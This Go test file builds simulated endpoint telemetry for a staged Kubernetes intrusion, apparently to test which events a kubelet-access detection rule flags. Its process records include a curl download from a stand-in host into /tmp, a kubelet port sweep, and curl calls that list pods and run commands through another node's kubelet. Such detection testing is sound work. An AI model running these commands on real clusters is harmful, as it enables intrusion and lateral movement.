package builtin_test

// The case. In a small cluster the web shop's Node.js server on k8s-node-01 is exploited.
// The intruder loads a scanner into /tmp, sweeps the nodes' kubelets, lists pods with curl
// and runs a command in the reports pod on k8s-node-02. From there a Python one-liner and a
// hidden program try the next nodes. The pod's token lets it read secrets and run a command
// in a payments pod through the API server; there, on k8s-node-03, a program in /dev/shm goes on,
// and reads the node's own credentials. Around it the cluster does what clusters do: metrics-server and Prometheus read the kubelets,
// backups run, and an operator looks at a node in the morning.

// The nodes are 10.20.0.10 (control plane, no agent) to 10.20.0.13.
var (
	node01 = &host{
		name: "k8s-node-01", ip: "10.20.0.11", id: "8f2a6c1de0b94b6f9d1f3a57c2e84b01", mac: "52-54-00-1A-20-11",
		agent: "6d3f0b52-7c1e-4a89-b7d4-2f90c1a8e511", version: "8.15.3", osVersion: "22.04.5", kernel: "5.15.0-124-generic #134-Ubuntu SMP Fri Sep 27 20:20:17 UTC 2024",
	}
	node02 = &host{
		name: "k8s-node-02", ip: "10.20.0.12", id: "b1c7a90e5d2f4e0f8a6b0d9c3e7f1202", mac: "52-54-00-1A-20-12",
		agent: "0e9b7d34-51f8-4c0a-9a3e-b86d2f07c412", version: "8.15.3", osVersion: "22.04.5", kernel: "5.15.0-124-generic",
	}
	build01 = &host{
		name: "build-01", ip: "10.20.0.40", id: "3ac41f7e9b604d0d8c55e1f2a7b0c940", mac: "52-54-00-1A-20-40",
		agent: "c47a2e90-d1b3-4f66-8e0f-93a5b7c6d240", version: "8.8.2", osVersion: "20.04.6", kernel: "5.4.0-198-generic #218-Ubuntu SMP Fri Sep 27 20:18:53 UTC 2024",
	}
)

// root returns the first process of a tree: a service or the main process of a container.
func root(pid int, user string, uid int, exe string, args ...string) *proc {
	return &proc{
		pid: pid, name: comm(exe), exe: exe, cwd: "/", args: args, uid: uid, user: user, auid: -1, ses: -1,
		started: at("00:00:00.000").AddDate(0, 0, -6),
	}
}

// in returns the process as the main process of a container.
func (p *proc) in(container, cwd string) *proc {
	p.container, p.cwd = container, cwd
	return p
}

// defendExport is what Elastic Defend on k8s-node-01 and build-01 sent.
func defendExport() *evidence {
	e := &evidence{path: "elastic-defend.ndjson"}
	node := &defend{evidence: e, host: node01, direction: true, sequence: 418200, port: 41320}
	build := &defend{evidence: e, host: build01, sequence: 90310, port: 52010} // too old to write network.direction

	metrics := root(2817, "nobody", 65534, "/metrics-server", "/metrics-server", "--kubelet-use-node-status-port").in("metrics-server", "/")
	shim := root(31790, "root", 0, "/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io")
	shim.started = at("00:02:11.190")
	shop := shim.child(31844, "00:02:11.408", "/usr/local/bin/node", "node", "/srv/shop/server.js").in("shop-web", "/srv/shop")
	shop.uid, shop.user = 1000, "node"

	node.exec(shim)
	node.exec(shop)
	scrape(node, metrics, "01:56")
	node.connect("", "01:56:33.201", shop, "10.20.4.17", 5432)
	node.connect("", "01:56:40.918", shop, "10.20.4.17", 5432)
	firstAccess(node, shop)
	scrape(node, metrics, "02:02")
	sweep(node, shop)
	kubeletCalls(node, shop)
	scrape(node, metrics, "02:08")
	buildHost(build)
	afterwards(node)
	scrape(node, metrics, "09:00")
	return e
}

// scrape is metrics-server reading every kubelet: the right port, the right addresses, a
// process that the rule does not name.
func scrape(d *defend, metrics *proc, minute string) {
	d.connect("", minute+":05.112", metrics, "10.20.0.10", 10250)
	d.connect("", minute+":05.113", metrics, "10.20.0.11", 10250)
	d.connect("", minute+":05.113", metrics, "10.20.0.12", 10250)
	d.connect("", minute+":05.115", metrics, "10.20.0.13", 10250)
	d.closed(minute+":05.167", metrics, "10.20.0.13", 10250, 48211)
}

// firstAccess is the exploit: the server starts a shell that loads the scanner. The
// download goes to a public address and is no hit.
func firstAccess(d *defend, shop *proc) {
	shell := shop.child(40112, "01:57:12.044", "/bin/dash", "sh", "-c", "curl -fsSL http://203.0.113.66:8000/kd -o /tmp/kd; chmod +x /tmp/kd")
	shell.name = "sh"
	curl := shell.child(40113, "01:57:12.047", "/usr/bin/curl", "curl", "-fsSL", "http://203.0.113.66:8000/kd", "-o", "/tmp/kd")
	chmod := shell.child(40114, "01:57:13.390", "/bin/chmod", "chmod", "+x", "/tmp/kd")
	d.exec(shell)
	d.exec(curl)
	d.connect("", "01:57:12.061", curl, "203.0.113.66", 8000)
	d.closed("01:57:13.377", curl, "203.0.113.66", 8000, 2411904)
	d.exec(chmod)
}

// sweep is the scanner trying the nodes' addresses on both ports.
func sweep(d *defend, shop *proc) {
	kd := shop.child(40126, "02:03:41.120", "/tmp/kd", "/tmp/kd", "-p", "10250,10255", "10.20.0.10-16")
	d.exec(kd)
	const why = "/tmp/kd sweeps the nodes: executable in /tmp"
	d.connect(why, "02:03:41.133", kd, "10.20.0.10", 10250)
	d.connect(why, "02:03:41.133", kd, "10.20.0.11", 10250)
	d.connect(why, "02:03:41.134", kd, "10.20.0.12", 10250)
	d.connect(why, "02:03:41.134", kd, "10.20.0.13", 10250)
	d.connect(why, "02:03:41.135", kd, "10.20.0.14", 10250)
	d.connect(why, "02:03:41.135", kd, "10.20.0.15", 10250)
	d.connect(why, "02:03:41.136", kd, "10.20.0.16", 10250)
	d.connect(why, "02:03:42.650", kd, "10.20.0.11", 10255)
	d.connect(why, "02:03:42.650", kd, "10.20.0.12", 10255)
	d.connect(why, "02:03:42.651", kd, "10.20.0.13", 10255)
	d.connect("", "02:03:42.655", kd, "10.20.0.12", 10256) // kube-proxy's health check, another port
}

// kubeletCalls are requests to the kubelet that answers.
func kubeletCalls(d *defend, shop *proc) {
	shell := shop.child(40140, "02:05:58.702", "/bin/dash", "sh", "-i")
	shell.name = "sh"
	d.exec(shell)
	pods := shell.child(40151, "02:06:10.310", "/usr/bin/curl", "curl", "-sk", "https://10.20.0.12:10250/pods")
	d.exec(pods)
	d.connect("curl asks node 02 for its pods", "02:06:10.322", pods, "10.20.0.12", 10250)
	d.closed("02:06:10.571", pods, "10.20.0.12", 10250, 91822)
	run := shell.child(40163, "02:08:05.208", "/usr/bin/curl", "curl", "-sk", "-X", "POST", "https://10.20.0.12:10250/run/reports/reports-6c9f7b4d8-xk2lq/worker", "-d", "cmd=id")
	d.exec(run)
	d.connect("curl runs a command in the reports pod", "02:08:05.219", run, "10.20.0.12", 10250)
	d.connect("the exploited server itself: name like node*", "02:08:41.006", shop, "10.20.0.13", 10250)
}

// buildHost is a near miss: everything fits, but the agent does not say the direction.
func buildHost(d *defend) {
	runner := root(1180, "ci", 998, "/opt/runner/bin/Runner.Worker", "/opt/runner/bin/Runner.Worker", "spawnclient")
	curl := runner.child(22871, "02:30:17.480", "/usr/bin/curl", "curl", "-sk", "https://10.20.0.11:10250/healthz")
	d.exec(curl)
	d.connect("", "02:30:17.495", curl, "10.20.0.11", 10250)
	d.connect("", "02:30:19.011", curl, "203.0.113.80", 443)
}

// afterwards is a near miss by its address: a partner's service on the same port.
func afterwards(d *defend) {
	cron := root(812, "root", 0, "/usr/sbin/cron", "/usr/sbin/cron", "-f", "-P")
	backup := cron.child(43307, "03:12:00.410", "/usr/bin/python3.10", "/usr/bin/python3", "/opt/backup/sync.py")
	d.exec(backup)
	d.connect("", "03:12:01.077", backup, "198.51.100.20", 10250)
	d.closed("03:12:09.630", backup, "198.51.100.20", 10250, 7733)
}
